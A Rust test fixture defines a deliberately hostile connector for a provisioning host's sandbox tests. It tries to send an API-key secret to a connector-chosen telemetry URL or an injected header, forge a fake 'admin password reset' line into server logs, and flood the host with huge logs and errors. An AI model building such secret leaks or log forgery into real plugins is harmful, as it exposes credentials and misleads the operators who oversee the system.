//! Hostile test connector (contract 0.2) that overreaches: it tries to widen its own egress and
//! to place secrets where the operator did not allow them, and it answers the host with oversized
//! or forged data. What it does is chosen by the `urn:overreach:act` claim of the changed user:
//!
//! - `telemetry`: sends the `api-key` secret as a Bearer credential to `telemetry-url`, a URL
//!   property whose *default* the connector declares (an address the operator never chose);
//! - `header:<name>`: sends `api-key` to `endpoint` injected into header `<name>`;
//! - `huge-error:<bytes>`: fails with a `permanent` error whose message has that many bytes and a
//!   forged log line after a newline;
//! - `huge-warnings`: succeeds with 1,000 warnings of 10 KB each;
//! - `log-flood`: emits 2,000 log events of 200 KB each;
//! - `log-forge`: emits one event whose message carries a newline and a forged server log line;
//! - `long-remote-id`: succeeds with a 4 KB remote id;
//! - `rate-limit-zero`: answers `rate-limited` with a retry-after of 0 ms.
//!
//! The outcome of an HTTP attempt is reported as the single warning `sent:<status>` or
//! `error:<debug of the http-error>`.

use provisioner_sdk::prelude::*;
use provisioner_sdk::SecretHeader;

/// The connector's own default for `telemetry-url`: nothing listens there, so a host that let
/// the request through would report a connection failure, not an egress denial.
pub const TELEMETRY_DEFAULT: &str = "http://127.0.0.1:9/collect";

/// A line a guest would like to see in the host's log as if the host had written it.
pub const FORGED_LINE: &str = "2026-11-29T00:00:00.000000Z  INFO provisioner: admin password reset";

/// The connector.
pub struct Overreach;

fn property(key: &str, kind: PropertyKind, secret: bool, default: Option<&str>) -> ConfigProperty {
    let mut property = ConfigProperty::new(key, kind).description(&format!("Test property {key}."));
    property.required = default.is_none();
    property.secret = secret;
    property.default_value = default.map(str::to_string);
    property
}

/// The text of `key` exactly as configured, empty when unset.
fn text(cx: &Context, key: &str) -> String {
    match cx.config().get(key) {
        Some(ConfigValue::Text(t)) => t.clone(),
        _ => String::new(),
    }
}

fn send(cx: &Context, url: String, credential: Credential) -> ProvisionOutcome {
    let result = cx.host().send(&Request {
        method: Method::Get,
        url,
        headers: vec![],
        body: None,
        credential: Some(credential),
        timeout_ms: Some(2_000),
    });
    let report = match result {
        Ok(response) => format!("sent:{}", response.status),
        Err(error) => format!("error:{error:?}"),
    };
    ProvisionOutcome {
        remote_id: None,
        warnings: vec![report],
    }
}

fn api_key() -> SecretRef {
    SecretRef {
        key: "api-key".into(),
    }
}

impl Connector for Overreach {
    fn metadata() -> ConnectorMetadata {
        ConnectorMetadata::new(
            "overreach",
            "Overreach",
            "0.1.0",
            "Reaches past its grant and answers with oversized data.",
        )
        .property(property("endpoint", PropertyKind::Url, false, None))
        .property(property(
            "telemetry-url",
            PropertyKind::Url,
            false,
            Some(TELEMETRY_DEFAULT),
        ))
        .property(property("api-key", PropertyKind::Text, true, None))
    }

    fn validate(_config: &ConnectorConfig) -> Vec<ConfigProblem> {
        vec![]
    }

    fn provision(cx: &Context, change: &Change) -> Result<ProvisionOutcome, ProvisionError> {
        let Entity::User(user) = &change.entity else {
            return Ok(ProvisionOutcome {
                remote_id: None,
                warnings: vec![],
            });
        };
        let act = user
            .claims
            .iter()
            .find(|c| c.uri == "urn:overreach:act")
            .and_then(|c| c.values.first().cloned())
            .unwrap_or_default();
        let (verb, argument) = act.split_once(':').unwrap_or((act.as_str(), ""));
        match verb {
            "telemetry" => Ok(send(
                cx,
                text(cx, "telemetry-url"),
                Credential::Bearer(api_key()),
            )),
            "header" => Ok(send(
                cx,
                text(cx, "endpoint"),
                Credential::Header(SecretHeader {
                    name: argument.into(),
                    value: api_key(),
                }),
            )),
            "huge-error" => {
                let bytes: usize = argument.parse().unwrap_or(1 << 20);
                let mut message = format!("failed\n{FORGED_LINE}\n");
                message.extend(std::iter::repeat_n(
                    'x',
                    bytes.saturating_sub(message.len()),
                ));
                Err(error::permanent(message))
            }
            "huge-warnings" => Ok(ProvisionOutcome {
                remote_id: Some("00X1".into()),
                warnings: (0..1000)
                    .map(|i| format!("{i}:{}", "w".repeat(10_000)))
                    .collect(),
            }),
            "log-flood" => {
                let big = "L".repeat(200_000);
                for _ in 0..2000 {
                    cx.host()
                        .log(Level::Info, &big, &[("k".into(), big.clone())]);
                }
                Ok(ProvisionOutcome {
                    remote_id: Some("00X2".into()),
                    warnings: vec![],
                })
            }
            "log-forge" => {
                cx.host().log(
                    Level::Info,
                    &format!("harmless\n{FORGED_LINE}"),
                    &[("field\nname".into(), format!("v\n{FORGED_LINE}"))],
                );
                Ok(ProvisionOutcome {
                    remote_id: Some("00X3".into()),
                    warnings: vec![],
                })
            }
            "long-remote-id" => Ok(ProvisionOutcome {
                remote_id: Some("9".repeat(4096)),
                warnings: vec![],
            }),
            "rate-limit-zero" => Err(error::rate_limited("slow down", Some(0))),
            other => Err(error::permanent(format!("unknown act `{other}`"))),
        }
    }

    fn lookup(_cx: &Context, _key: &LookupKey) -> Result<Option<RemoteObject>, ProvisionError> {
        Ok(None)
    }

    fn list_entities(_cx: &Context, _request: &ListRequest) -> Result<RemotePage, ProvisionError> {
        Ok(RemotePage {
            objects: vec![],
            next_cursor: None,
        })
    }
}

provisioner_sdk::export_connector!(Overreach);
